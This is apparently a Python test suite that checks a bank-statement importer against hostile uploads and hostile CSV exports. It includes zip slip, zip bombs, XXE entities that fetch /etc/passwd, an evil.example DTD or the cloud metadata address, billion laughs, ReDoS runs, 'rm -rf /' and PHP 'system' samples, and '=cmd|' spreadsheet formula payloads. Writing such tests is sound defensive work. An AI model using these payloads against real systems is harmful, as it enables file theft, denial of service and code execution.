"""Attacks in files: archives, workbooks, XML, HTML and tables that are handed in, and tables that we hand out."""

import csv
import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient
from tests.attacks.conftest import form_token

from anhuan.kit import cells
from anhuan.kit.errors import Bad
from anhuan.statements import files, sandbox
from anhuan.statements.model import Reading

TABLE = "交易日,记账日,交易摘要,人民币金额,卡号末四位\r\n2026-04-01,2026-04-02,超市,12.00,6214\r\n"
SPACE = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"
CAMT = f'<Document xmlns="{SPACE}"><BkToCstmrStmt><Stmt>{{}}</Stmt></BkToCstmrStmt></Document>'


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive with these members, under whatever names."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def outcome(data: bytes, name: str = "x") -> str:
    """The code of the refusal of a file, `read` where there is none; fails where a reader stumbles."""
    refused: Bad | None = None
    try:
        files.read_file(data, name)
    except Bad as bad:
        refused = bad
    assert refused is None or files.STUMBLED not in refused.message
    return "read" if refused is None else refused.code


def refusal(data: bytes, name: str = "x.zip") -> str:
    """The code of the refusal of a file that must be refused."""
    code = outcome(data, name)
    assert code != "read"
    return code


def read(data: bytes, name: str = "x") -> Reading:
    """A file that must be read."""
    return files.read_file(data, name)


@pytest.mark.parametrize("name", ["../../../tmp/anhuan-slip.csv", "/tmp/anhuan-slip.csv", "..\\..\\anhuan-slip.csv",
                                  "C:\\anhuan-slip.csv", "a/../../anhuan-slip.csv"])  # fmt: skip
def test_zip_slip(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tried: an archive whose member's name leads out of the folder into which it would be unpacked.
    Must: the name is a word; nothing is written anywhere.
    Control: the member itself is read.
    """
    monkeypatch.chdir(tmp_path)
    assert read(zipped((name, TABLE.encode()))).lines
    assert not list(tmp_path.rglob("*"))
    assert not list(tmp_path.parent.rglob("anhuan-slip*"))
    assert not Path("/tmp/anhuan-slip.csv").exists()


def test_zip_bomb() -> None:
    """Tried: 60 MB of zeros in an archive of 60 kB.
    Must: refused by its ratio.
    Control: the same archive of a small table is read.
    """
    assert refusal(zipped(("a.csv", b"0" * 60_000_000))) == "file.too_large"
    assert read(zipped(("a.csv", TABLE.encode()))).lines


def test_zip_bomb_that_lies() -> None:
    """Tried: the same with a declared size of ten bytes, in both of its headers.
    Must: refused: real bytes are counted while they unpack.
    Control: the declared size alone would let it in.
    """
    from anhuan.statements import archive

    data = bytearray(zipped(("a.csv", b"0" * 60_000_000)))
    for place in (22, data.rfind(b"PK\x01\x02") + 24):
        data[place : place + 4] = (10).to_bytes(4, "little")
    assert archive.check(bytes(data)).infolist()[0].file_size == 10
    assert refusal(bytes(data)) in ("file.too_large", "file.unreadable")


def test_zip_in_zip() -> None:
    """Tried: archives in archives, each a hundred times larger inside.
    Must: refused at the first one inside.
    Control: one archive is read.
    """
    inner = zipped(("a.csv", TABLE.encode()))
    assert refusal(zipped(("b.zip", inner))) == "file.too_large"
    assert read(inner).lines


def test_zip_of_many() -> None:
    """Tried: an archive of ten thousand empty members.
    Must: refused by their number.
    Control: a few members are read.
    """
    assert refusal(zipped(*((f"{number}.csv", b"") for number in range(10_000)))) == "file.too_large"
    assert read(zipped(("a.csv", TABLE.encode()), ("b.csv", b""))).lines


def test_workbook_bomb() -> None:
    """Tried: a workbook whose sheet unpacks to 70 MB.
    Must: refused before a reader of workbooks sees it.
    Control: the worker lives and reads the next file.
    """
    kinds = b'<?xml version="1.0"?><Types/>'
    bomb = zipped(("[Content_Types].xml", kinds), ("xl/worksheets/sheet1.xml", b" " * 70_000_000))
    assert refusal(bomb, "x.xlsx") in ("file.too_large", "file.unreadable")
    assert read(zipped(("a.csv", TABLE.encode()))).lines


@pytest.mark.parametrize("declared", [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
    '<!DOCTYPE a SYSTEM "http://169.254.169.254/">',
])  # fmt: skip
def test_external_entities(declared: str) -> None:
    """Tried: XML that has our file or another machine's answer put into it (XXE), in a bank statement and a workbook.
    Must: refused for its document type, nothing is looked up.
    Control: the statement without it gets as far as its missing account.
    """
    text = declared + CAMT.format("<Acct><Id><IBAN>&x;</IBAN></Id></Acct>")
    assert refusal(text.encode(), "x.xml") == "file.unreadable"
    sheet = zipped(("[Content_Types].xml", f"{declared}<Types/>".encode()), ("xl/workbook.xml", b"<workbook/>"))
    assert refusal(sheet, "x.xlsx") == "file.unreadable"
    assert read(CAMT.format("").encode(), "x.xml").reader == "camt"


def test_billion_laughs() -> None:
    """Tried: entities that grow to a billion words.
    Must: refused at once.
    Control: the time; and the same statement without them is read.
    """
    names = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    began = time.monotonic()
    assert (
        refusal(f'<!DOCTYPE x [<!ENTITY a0 "ha">{names}]>{CAMT.format("&a9;")}'.encode(), "x.xml") == "file.unreadable"
    )
    assert time.monotonic() - began < 10
    assert read(CAMT.format("").encode(), "x.xml").reader == "camt"


def deep_xml() -> bytes:
    return CAMT.format("<a>" * 100_000 + "</a>" * 100_000).encode()


def deep_html() -> bytes:
    return b"<html><table><tr><td>" + b"<div>" * 200_000 + "交易日".encode() + b"</table>"


def deep_tables() -> bytes:
    return b"<html>" + b"<table><tr><td>" * 20_000


def deep_mail() -> bytes:
    head = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n"
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(5000))
    return head + parts


def deep_ofx() -> bytes:
    return b"OFXHEADER:100\r\n\r\n<OFX>" + b"<A>" * 100_000


@pytest.mark.parametrize("made", [deep_xml, deep_html, deep_tables, deep_mail, deep_ofx])
def test_deep_nesting(made: Callable[[], bytes]) -> None:
    """Tried: a hundred thousand things inside each other, in XML, HTML, mail and OFX, to break what recurses.
    Must: an answer or a refusal within seconds, no fault, and the next file is read.
    Control: the next file.
    """
    began = time.monotonic()
    assert outcome(made())
    assert time.monotonic() - began < 30
    assert read(zipped(("a.csv", TABLE.encode()))).lines


def test_wide_table() -> None:
    """Tried: a table of one row with a hundred thousand columns.
    Must: refused by its width.
    Control: a table of five columns is read.
    """
    assert refusal(b"a," * 100_000 + b"\r\n1,2\r\n", "x.csv") == "file.too_large"
    assert read(TABLE.encode(), "x.csv").lines


@pytest.mark.parametrize(
    "piece", ["1", "1,", " ", "\t", "a@", "<a ", "<td>", "&", "年", "2026", "'", '"', "-", "=20", "(", "¥"]
)
def test_patterns_that_explode(piece: str) -> None:
    """Tried: long runs of one piece, at which a pattern tries every way to part them (ReDoS), in mail, HTML and tables.
    Must: time grows with length alone: 200 kB within seconds.
    Control: a pattern that explodes would take hours.
    """
    run = piece * (200_000 // len(piece))
    head = "From: 招商银行 <ccsvc@message.cmbchina.com>\r\nTo: a@b.example\r\nSubject: 账单"
    mail = f"{head}\r\nDate: {run[:500]}\r\n\r\n{run}"
    for text in (mail, f"<html><body>到期还款日 {run}", f"交易日,{TABLE[4:]}{run}"):
        began = time.monotonic()
        assert outcome(text.encode())
        assert time.monotonic() - began < 10


@pytest.mark.parametrize("data", [
    b"MZ" + b"\0" * 500, b"\x7fELF" + b"\0" * 500, b"\x89PNG\r\n\x1a\n" + b"\0" * 500, b"#!/bin/sh\nrm -rf /\n",
    b"<?php system('id'); ?>", b"<?xml version='1.0'?><svg onload='alert(1)'/>", b"", b"\0" * 1000,
])  # fmt: skip
def test_content_type_confusion(data: bytes) -> None:
    """Tried: programs, pictures and scripts under the name of a bill.
    Must: refused by their bytes, whatever the name says.
    Control: a table is read under the name of a program.
    """
    for name in ("bill.csv", "bill.pdf", "bill.eml", "bill.xlsx"):
        with pytest.raises(Bad):
            files.read_file(data, name)
    assert read(TABLE.encode(), "bill.exe").lines


@pytest.mark.parametrize("name", ["../../../etc/passwd", "a\r\nX: y", "<script>alert(1)</script>.csv", "a" * 5000,
                                  "con.csv", "\u202egpj.csv", "..", "/"])  # fmt: skip
def test_names_of_uploads(client: TestClient, name: str) -> None:
    """Tried: a file whose name is a path, a head line, markup or too long.
    Must: it is shown as text without its folders, and no fault.
    Control: the file itself is read.
    """
    files_sent = {"files": (name, TABLE.encode(), "text/csv")}
    made = client.post("/api/v1/imports/preview", files=files_sent)
    assert made.status_code in (201, 400, 422), made.text
    if made.status_code == 201:
        (shown,) = made.json()["files"]
        assert "/etc" not in shown["name"]
        assert shown["rows_new"] == 1
        page = client.get(f"/import/preview/{made.json()['id']}")
        assert page.status_code == 200
        assert "<script>alert" not in page.text


def test_thousands_of_uploads(client: TestClient) -> None:
    """Tried: a form with 1,500 files, and one with 3,000 fields.
    Must: refused as a whole, 4xx.
    Control: a form with two files is taken.
    """
    token = form_token(client)
    many = [("files", (f"{number}.csv", b"x")) for number in range(1500)]
    assert 400 <= client.post("/import", data={"csrf": token}, files=many).status_code < 500
    fields = {f"f{number}": "x" for number in range(3000)}
    assert 400 <= client.post("/me/language", data={"csrf": token, **fields}).status_code < 500
    assert client.post("/import", data={"csrf": token}, files=many[:2]).status_code == 303


def test_reader_taken_over() -> None:
    """Tried: what code inside a broken parser could still do: read files, call somebody, start a program.
    Must: the worker stands behind its walls (tests/statements/test_confinement.py tries each act).
    Control: there each act succeeds without the walls.
    """
    if not (walls := sandbox.walls()):
        pytest.skip("this system has no walls to put up")
    assert "no new privileges" in walls


# --- tables that we hand out ---

FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1",
            "=HYPERLINK(\"x\")",
            "\n=1", "|calc", "%0A=1", "-2+3+cmd|' /C calc'!A0", "\ufeff=1", "\x00=1", "+(1)"]  # fmt: skip


def test_formula_in_a_table() -> None:
    """Tried: a merchant called `=cmd|...`, which a spreadsheet runs when somebody opens our export.
    Must: a quote before it, in every spelling; what is text stays text.
    Control: amounts below zero stay numbers, words stay as they are.
    """
    (row,) = csv.reader(io.StringIO(cells.to_csv([FORMULAS]).decode("utf-8-sig"), newline=""))
    assert [cell for cell in row if not cell.startswith("'")] == []
    assert [cells.safe(one) for one in ("-12.00", "+8", "超市", "a=b", "")] == ["-12.00", "+8", "超市", "a=b", ""]


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=4), max_size=4))
def test_formula_in_a_table_by_chance(rows: list[list[str]]) -> None:
    """Tried: any text in any cell.
    Must: no cell of the file begins a formula, no cell becomes two, none is lost.
    Control: the cells are counted.
    """
    told = [row for row in csv.reader(io.StringIO(cells.to_csv(rows).decode("utf-8-sig"), newline="")) if row]
    assert [len(row) for row in told] == [len(row) for row in rows]
    for cell in (cell for row in told for cell in row):
        start = cell.lstrip(" \t\r\n\u3000\ufeff")
        assert not start.startswith(("=", "@", "|")) or cell.startswith("'")


def test_tables_have_one_writer(pytestconfig: pytest.Config) -> None:
    """Tried: an export that writes its own CSV and forgets the quotes.
    Must: nobody but kit/cells.py calls csv.writer.
    Control: the search finds the one in kit/cells.py.
    """
    package = pytestconfig.rootpath / "src" / "anhuan"
    texts = {str(file.relative_to(package)): file.read_text() for file in package.rglob("*.py")}
    assert [name for name, text in texts.items() if "csv.writer" in text or "DictWriter" in text] == ["kit/cells.py"]
